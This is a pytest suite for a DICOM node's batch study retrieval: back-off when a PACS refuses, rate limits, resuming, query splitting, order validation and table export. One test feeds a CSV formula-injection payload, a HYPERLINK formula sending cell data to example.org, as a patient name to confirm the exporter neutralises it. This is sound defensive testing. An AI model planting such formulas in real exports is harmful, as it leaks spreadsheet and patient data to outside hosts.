"""Rules of a batch: what it asks for, when, how it takes a refusal, what goes first."""

import csv
import json
from collections.abc import Callable, Sequence
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from pydicom.dataset import Dataset

from builders.batches import RefusingRetriever, one_series, plan, runner_of
from builders.clock import FakeClock
from builders.find_scp import find_scp, match
from builders.index import build_index, received
from config.settings import NodeSettings, Peer, Settings
from dicom_node.batch.ends import note_ends
from dicom_node.batch.errors import BatchListError, BatchPlanError
from dicom_node.batch.hours import hours_from
from dicom_node.batch.listing import StudyQuery, by_query, list_from_file
from dicom_node.batch.order import order_from
from dicom_node.batch.plan import estimate
from dicom_node.batch.table import COLUMNS, Row, TableFormat, table_rows, write_table
from dicom_node.retrieve.association import StopSwitch, conversation
from dicom_node.retrieve.find import FIND_OFFER
from storage.batch_records import BatchState, BatchStudyState, BatchView
from storage.database import open_engine
from storage.index import Index
from storage.migrations import migrate
from storage.records import PatientKey


def make_index(folder: Path, clock: FakeClock) -> Index:
    """An empty index."""
    url = f"sqlite:///{folder / 'index.sqlite'}"
    migrate(url)
    return Index(open_engine(url), now=clock.now)


def run_refused(folder: Path, clock: FakeClock, *, steps: int, wait_s: float) -> tuple[RefusingRetriever, BatchView]:
    """Two studies of a PACS that refuses every retrieval."""
    index, retriever = make_index(folder, clock), RefusingRetriever()
    settings = Settings(node=NodeSettings(ae_title="NODE", data_dir=folder))
    with find_scp(one_series) as peer:
        number = index.batches.begin(plan(), {"1.2.1": "20190101", "1.2.2": "20200101"})
        runner = runner_of(settings, index, peer, retriever, clock)
        for _ in range(steps):
            note_ends(index, Settings())
            runner.run_due()
            clock.advance(wait_s)
    view = index.batches.view(number)
    index.close()
    return retriever, view


def test_a_pacs_that_refuses_is_left_alone_for_a_while(tmp_path: Path) -> None:
    """Ten looks within ten seconds are one retrieval."""
    retriever, view = run_refused(tmp_path, FakeClock(), steps=10, wait_s=1)

    assert retriever.asked == ["1.2.1"]
    assert (view.state, view.failures) == (BatchState.RUNNING, 1)
    assert "0xA702" in view.words


def test_a_study_that_fails_again_and_again_is_given_up(tmp_path: Path) -> None:
    """Four answers each, taken in turn; then the batch is over."""
    retriever, view = run_refused(tmp_path, FakeClock(), steps=10, wait_s=3600)

    assert sorted(retriever.asked) == ["1.2.1"] * 4 + ["1.2.2"] * 4
    assert retriever.asked[:2] == ["1.2.1", "1.2.2"]
    assert view.state is BatchState.DONE
    assert view.studies == {BatchStudyState.FAILED: 2}


def test_no_more_studies_are_asked_for_in_an_hour_than_the_pacs_can_bear(tmp_path: Path) -> None:
    """The next one waits until the first is an hour ago."""
    clock = FakeClock()
    index = make_index(tmp_path, clock)
    index.batches.begin(plan(), {"1.2.1": "", "1.2.2": ""})
    (line,) = index.batches.in_state(1, BatchStudyState.WAITING)
    index.batches.asked(line, is_own=True)
    assert index.batches.view(1).asked_in_last_hour == 1
    clock.advance(3601)
    assert index.batches.view(1).asked_in_last_hour == 0
    index.close()


def test_a_cancelled_batch_is_taken_up_where_it_was(tmp_path: Path) -> None:
    """What had ended stays so."""
    index = make_index(tmp_path, FakeClock())
    index.batches.begin(plan(), {"1.2.1": "", "1.2.2": ""})
    (line,) = index.batches.in_state(1, BatchStudyState.WAITING)
    index.batches.end(line, BatchStudyState.ANALYSED, "")
    assert index.batches.move(1, BatchState.CANCELLED).studies[BatchStudyState.CANCELLED] == 1
    resumed = index.batches.move(1, BatchState.RUNNING)
    assert resumed.studies == {BatchStudyState.ANALYSED: 1, BatchStudyState.WAITING: 1}
    index.close()


def test_what_nobody_sent_is_not_of_the_batch_after_a_crash(tmp_path: Path) -> None:
    """Should it come by itself it is delivered as any other."""
    index = make_index(tmp_path, FakeClock())
    index.batches.begin(plan(), {"1.2.1": ""})
    (line,) = index.batches.in_state(1, BatchStudyState.WAITING)
    index.batches.asked(line, is_own=True)
    assert index.batches.is_kept_here("1.2.1")
    index.batches.release_running("pacs")
    assert not index.batches.is_kept_here("1.2.1")
    assert index.batches.view(1).studies == {BatchStudyState.WAITING: 1}
    index.close()


@pytest.mark.parametrize(
    ("text", "inside", "outside", "per_day"),
    [("19:00-06:30", (23, 6), (7, 18), 11.5), ("08:00-12:00", (8, 11), (12, 7), 4), ("", (0, 23), (), 24)],
)
def test_hours_may_span_midnight(text: str, inside: tuple[int, ...], outside: tuple[int, ...], per_day: float) -> None:
    """The end is not within them."""
    hours = hours_from(text)
    assert all(hours.contain(datetime(2026, 1, 2, hour, tzinfo=UTC)) for hour in inside)
    assert not any(hours.contain(datetime(2026, 1, 2, hour, tzinfo=UTC)) for hour in outside)
    assert hours.per_day == per_day


def answers_with_limit(days: list[str], limit: int) -> Callable[[Dataset], Sequence[Dataset] | int]:
    """A PACS that answers 0xA700 where more than `limit` studies match; a study at noon less one on each day named."""

    def answer(query: Dataset) -> Sequence[Dataset] | int:
        first, last = str(query.StudyDate).split("-")
        is_afternoon = str(query.get("StudyTime") or "").startswith("12")
        found = [] if is_afternoon else [number for number, day in enumerate(days) if first <= day <= last]
        if len(found) > limit:
            return 0xA700
        values = {"ModalitiesInStudy": "CT", "StudyDescription": "CT Thorax"}
        return [match("STUDY", StudyInstanceUID=f"1.2.{n}", StudyDate=days[n], **values) for n in found]

    return answer


def listed(peer: Peer, **changes: object) -> list[str]:
    """What a query of January 2019 lists."""
    query = StudyQuery(since=date(2019, 1, 1), until=date(2019, 1, 31), **changes)  # type: ignore[arg-type]
    with conversation(peer, FIND_OFFER, own_aet="NODE", limit_s=30, switch=StopSwitch()) as talk:
        return [one.study_instance_uid for one in by_query(talk, query)]


def test_days_are_asked_for_in_smaller_pieces_where_a_pacs_lists_too_much() -> None:
    """Nothing is left out, nothing is named twice."""
    days = [f"201901{day:02d}" for day in range(1, 32) for _ in range(3)]
    with find_scp(answers_with_limit(days, limit=5)) as peer:
        found = listed(peer)
    assert sorted(found) == sorted(f"1.2.{number}" for number in range(93))


def test_a_description_is_held_against_the_answers_too() -> None:
    """A PACS need not match this key."""
    with find_scp(answers_with_limit(["20190105"], limit=5)) as peer:
        assert listed(peer, description="*THORAX*") == ["1.2.0"]
        assert listed(peer, description="*KNEE*") == []


def test_every_problem_of_an_order_is_said_at_once() -> None:
    """With the key that it is about."""
    with pytest.raises(BatchPlanError) as raised:
        order_from({"studies": "list.txt", "per_hour": "0", "hours": "late", "colour": "red"})
    assert all(word in raised.value.reason for word in ("per_hour", "hours", "colour"))
    with pytest.raises(BatchPlanError, match="say one of"):
        order_from({"name": "nothing"})


def test_a_problem_of_an_order_is_said_once() -> None:
    """In our words, with what was given."""
    with pytest.raises(BatchPlanError) as raised:
        order_from({"studies": "list.txt", "hours": "25:00-26:00"})
    assert raised.value.reason == "hours: must be HH:MM-HH:MM as 19:00-06:30 (got '25:00-26:00')"
    with pytest.raises(BatchPlanError) as raised:
        order_from({"since": "2019-01-01"})
    assert raised.value.reason.startswith("since and until: both are needed")


def test_the_room_that_a_batch_takes_is_estimated_from_the_studies_that_are_here(
    tmp_path: Path, each_engine: str
) -> None:
    """Of those that are to be fetched; nothing is said where the node has none."""
    index = build_index(tmp_path, FakeClock())
    wanted = {"1.2.1": "20190101", "1.2.2": "20190102", "1.2.3": "20190103"}
    unknown = estimate(index.batches, plan(), wanted, not_found=0, free_bytes=1)
    index.record_received([received("1.2.1", size_bytes=2000), received("1.2.9"), received("1.2.9", 2)])
    known = estimate(index.batches, plan(), wanted, not_found=0, free_bytes=1)
    index.close()
    assert (unknown.mean_study_bytes, unknown.expected_bytes) == (None, None)
    assert (known.to_fetch, known.mean_study_bytes, known.expected_bytes) == (2, 2000.0, 4000)


def test_a_list_has_comments_and_no_repetitions(tmp_path: Path) -> None:
    """An empty one is an error that says what belongs there."""
    path = tmp_path / "list.txt"
    path.write_text("1.2.3  # the first\n\n1.2.4\n1.2.3\n")
    assert list_from_file(path) == ["1.2.3", "1.2.4"]
    path.write_text("# nothing\n")
    with pytest.raises(BatchListError, match="names no study"):
        list_from_file(path)


@pytest.mark.parametrize("form", list(TableFormat))
def test_a_table_has_a_row_for_each_study_from_the_start(tmp_path: Path, form: TableFormat) -> None:
    """Also for those that nothing is known about yet."""
    if form is TableFormat.PARQUET:
        pytest.importorskip("pyarrow")
    index = make_index(tmp_path, FakeClock())
    number = index.batches.begin(plan(), {"1.2.1": "20190101", "1.2.2": ""})
    path = tmp_path / f"table.{form}"
    rows = table_rows(index, number, with_patients=False)
    assert write_table(path, rows, form, with_patients=False) == 2
    assert b"1.2.2" in path.read_bytes()
    assert not list(tmp_path.glob(".*part"))
    index.close()


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_table_has_no_formula_of_a_sender(tmp_path: Path, sign: str) -> None:
    """A mark stands before it; the form that programs read has the value as it came."""
    index = make_index(tmp_path, FakeClock())
    name = f'{sign}HYPERLINK("http://example.org/?"&A1,"x")'
    index.record_received([received("1.2.3", patient_name=name, patient=PatientKey(patient_id="4711", issuer=name))])
    number = index.batches.begin(plan(), {"1.2.3": "20250101"})
    for form in (TableFormat.CSV, TableFormat.JSONL):
        rows = table_rows(index, number, with_patients=True)
        write_table(tmp_path / f"table.{form}", rows, form, with_patients=True)
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["patient_name"], row["issuer"], row["patient_id"]) == (f"'{name}", f"'{name}", "4711")
    assert json.loads((tmp_path / "table.jsonl").read_text())["patient_name"] == name
    index.close()


def test_a_negative_number_in_a_csv_table_stays_a_number(tmp_path: Path) -> None:
    """Only texts are marked."""
    rows: list[Row] = [dict.fromkeys(COLUMNS) | {"lesion_volume_ml": -1.5, "words": "-"}]
    write_table(tmp_path / "table.csv", rows, TableFormat.CSV, with_patients=False)
    with (tmp_path / "table.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["lesion_volume_ml"], row["words"]) == ("-1.5", "'-")
